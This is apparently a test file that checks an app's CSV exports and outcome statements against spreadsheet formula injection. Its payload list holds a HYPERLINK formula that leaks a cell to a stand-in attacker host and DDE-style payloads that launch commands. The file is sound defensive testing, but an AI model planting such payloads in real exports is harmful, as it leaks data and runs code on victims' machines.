// Every CSV Attest writes (KPI exports, outcome statements) neutralizes formula injection: read back with an
// independent parser (csv-parse), no cell starts with = + - @, a tab or a CR unless it is a plain decimal number
// (counts and amounts stay numbers a spreadsheet can add up); text that did is shown with a leading apostrophe.
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { afterAll, describe, expect, it } from 'vitest';
import type { Result } from '../../shared/contract.ts';
import { ROI_DEFAULTS, type KpiExport, type RoiInputs } from '../../shared/contracts/kpis.ts';
import { csvRow } from '../../electron/core/files/csv-cell.ts';
import { importJsonlText } from '../../electron/core/interchange/jsonl-import.ts';
import { buildStatement, statementCsv } from '../../electron/core/outcomes/statement.ts';
import { runVerification } from '../../electron/core/outcomes/verification.ts';
import { openCore } from '../../electron/core/service.ts';
import { CaseCounter, FUZZ_SEED, fuzzRuns } from './fuzz-kit.ts';
import { tempDb, tempDir } from './helpers.ts';
import { aiSolved, loadContract, record } from './outcome-kit.ts';
import { runVerifierJson, sealManifest, writeTestPack } from './verifier-kit.ts';

const counter = new CaseCounter();
afterAll(() => console.log(counter.report('CSV cells')));

const ROI: RoiInputs = { ...ROI_DEFAULTS, months: 1, aiResolutions: 1000, verifiedSpend: null, breachesAvoided: 10, csatDelta: -0.1, customers: 500 };
const FORMULA_START = /^[=+\-@\t\r]/;
/** Written independently of the encoder: what counts as a plain number that may start with a minus. */
const isPlainNumber = (text: string): boolean => /^-?\d+(\.\d+)?([eE][+-]?\d+)?$/.test(text) || /^-?\.\d+$/.test(text) || /^-?\d+\.$/.test(text);

/** The payloads of the adversarial run, and their relatives. */
const INJECTIONS = [
  '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '+1+1',
  '=1+1',
  '\t=1+1',
  '\r=1+1',
  '-',
  '@',
  '-1-1',
  '--1',
  '-1e5x',
];

function readCsv(text: string): string[][] {
  return parse(text, { relax_column_count: true, skip_empty_lines: true, bom: true }) as string[][];
}

function expectNoFormulaCells(rows: string[][]): void {
  for (const row of rows) {
    for (const cell of row) {
      if (FORMULA_START.test(cell)) expect(isPlainNumber(cell), `cell ${JSON.stringify(cell)} would run as a formula`).toBe(true);
    }
  }
}

describe('CSV cell encoding', () => {
  it('round-trips through an independent parser: formula text gains one apostrophe, everything else is kept as is', () => {
    const value = fc.oneof(
      fc.string({ maxLength: 20 }),
      fc.constantFrom(...INJECTIONS),
      fc.tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r'), fc.string({ maxLength: 10 })).map(([a, b]) => a + b),
      fc.double({ noNaN: true, noDefaultInfinity: true }),
      fc.integer(),
      fc.constant(null),
    );
    fc.assert(
      fc.property(fc.array(value, { minLength: 1, maxLength: 8 }), (cells) => {
        const [parsed] = parse(`${csvRow(cells)}\r\n`, { relax_column_count: true }) as string[][];
        expect(parsed).toHaveLength(cells.length);
        cells.forEach((cell, i) => {
          const got = parsed![i]!;
          if (cell === null) expect(got).toBe('');
          else if (typeof cell === 'number') {
            // Numbers stay numbers, negative ones included.
            expect(Number(got)).toBe(cell === 0 ? 0 : cell);
            expect(got.startsWith("'")).toBe(false);
          } else if (FORMULA_START.test(cell) && !isPlainNumber(cell)) expect(got).toBe(`'${cell}`);
          else expect(got).toBe(cell);
        });
        expectNoFormulaCells([parsed!]);
        counter.add('csv rows');
      }),
      { numRuns: fuzzRuns(1500), seed: FUZZ_SEED },
    );
  });

  it('keeps plain negative numbers numeric, as numbers and as decimal text (amounts such as -0.99)', () => {
    const [row] = readCsv(`${csvRow([-12.5, '-0.99', '-3', '-1e3', '-1-1', '-0.99 EUR'])}\r\n`);
    expect(row).toEqual(['-12.5', '-0.99', '-3', '-1e3', "'-1-1", "'-0.99 EUR"]);
  });
});

describe('CSV exports with hostile text in them', () => {
  const KPI_FIXTURE = fileURLToPath(new URL('../fixtures/kpis/kpis.jsonl', import.meta.url));

  it('KPI exports: hostile category names come out neutralized in every view', async () => {
    const { db, path } = tempDb();
    const base = readFileSync(KPI_FIXTURE, 'utf8');
    // Each fixture ticket again under an injection as its category (and a new id), so every table has such rows.
    const hostile = INJECTIONS.flatMap((category, i) =>
      base
        .split('\n')
        .filter((line) => line.includes('"K-1"'))
        .map((line) => {
          const event = JSON.parse(line) as Record<string, unknown>;
          event.ticket = `H-${i}`;
          if (event.type === 'created') event.category = category;
          return JSON.stringify(event);
        }),
    );
    importJsonlText(db, 'kpis.jsonl', base);
    importJsonlText(db, 'hostile.jsonl', `${hostile.join('\n')}\n`);
    db.close();
    const core = openCore({ dbPath: path, role: 'auditor' });
    try {
      let seen = 0;
      for (const view of ['overview', 'board', 'roi'] as const) {
        const csv = (await core.invoke('kpis.export', { view, format: 'csv', from: '2026-03-01', to: '2026-03-10', roi: ROI })) as Result<KpiExport>;
        if (!csv.ok) throw new Error(`${view}: ${csv.error.message}`);
        const rows = readCsv(csv.value.data);
        expectNoFormulaCells(rows);
        seen += rows.flat().filter((cell) => INJECTIONS.some((injection) => cell === `'${injection}`)).length;
        // Negative numbers in the KPI tables stay numbers.
        for (const cell of rows.flat()) if (cell.startsWith("'")) expect(isPlainNumber(cell.slice(1))).toBe(false);
      }
      // The overview lists each category: the injected names are there, neutralized.
      expect(seen).toBeGreaterThanOrEqual(INJECTIONS.filter((i) => FORMULA_START.test(i)).length);
    } finally {
      core.close();
    }
  });

  it('outcome statements: hostile ticket ids come out neutralized, amounts stay numbers', () => {
    const { db } = tempDb();
    loadContract(db);
    const ids = ['=HYPERLINK("http://x","y")', '@SUM(A1)', '+T-1', '-2+3+cmd', 'T-plain'];
    ids.forEach((id, i) => record(db, aiSolved(id, `2026-10-0${i + 1}T10:00:00Z`, i === 1 ? [{ kind: 'customer', at: '2026-10-20T10:00:00Z' }] : [])));
    runVerification(db, '2026-10-25T00:00:00Z', (): never => {
      throw new Error('the contract needs no SLA');
    });
    const statement = buildStatement(db, '2026-10');
    expect(statement.lines.length).toBe(ids.length);
    const rows = readCsv(statementCsv(statement));
    expectNoFormulaCells(rows);
    const tickets = rows.slice(1, -1).map((row) => row[0]);
    expect(tickets.sort()).toEqual(ids.map((id) => (FORMULA_START.test(id) ? `'${id}` : id)).sort());
    for (const row of rows.slice(1)) for (const amount of row.slice(6, 9)) if (amount !== '') expect(isPlainNumber(amount)).toBe(true);
  });
});

describe('the independent verifier and neutralized statement CSVs', () => {
  it('accepts a pack whose statement CSV neutralized hostile ticket ids, and refuses one with a raw formula cell', async () => {
    const { db } = tempDb();
    loadContract(db);
    const ids = ['=HYPERLINK("http://x","y")', '@SUM(A1)', 'T-plain'];
    ids.forEach((id, i) => record(db, aiSolved(id, `2026-10-0${i + 1}T10:00:00Z`)));
    runVerification(db, '2026-10-25T00:00:00Z', (): never => {
      throw new Error('the contract needs no SLA');
    });
    const pack = await writeTestPack(db, join(tempDir(), 'pack'), 'acme-ai-2026');
    const csvPath = join(pack.dir, 'statements', 'acme-ai-2026', '2026-10.csv');
    const csv = readFileSync(csvPath, 'utf8');
    expect(csv).toContain(`"'=HYPERLINK(""http://x"",""y"")"`);
    expect(runVerifierJson(pack.dir).problems).toEqual([]);
    // The same CSV with the formula written raw (as before this change) no longer says what the JSON says.
    writeFileSync(csvPath, csv.replace(`"'=HYPERLINK(""http://x"",""y"")"`, `"=HYPERLINK(""http://x"",""y"")"`));
    sealManifest(pack.dir, pack.key);
    expect(runVerifierJson(pack.dir).problems.map((p) => p.kind)).toContain('csv_mismatch');
  });
});
